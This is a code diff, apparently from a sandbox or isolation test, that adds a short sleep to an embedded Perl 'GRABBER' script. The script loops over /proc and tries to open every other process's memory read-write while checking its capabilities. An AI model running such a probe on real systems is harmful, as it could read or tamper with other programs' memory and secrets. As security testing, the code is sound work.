@@ -14,6 +14,8 @@ const GRABBER = `
 use strict; my %seen; my @own = (1, $$); my $caught = 0; $| = 1;
 print "READY\\n";
 while (1) {
+  # the rest of the machine wants to run too
+  select(undef, undef, undef, 0.001);
   opendir(my $d, "/proc") or next;
   for my $pid (grep { /^\\d+$/ && $_ != $$ && $_ != 1 } readdir $d) {
     if (open(my $m, "+<", "/proc/$pid/mem")) { my $caps = ""; if (open(my $s, "<", "/proc/$pid/status")) { local $/; $caps = <$s> }
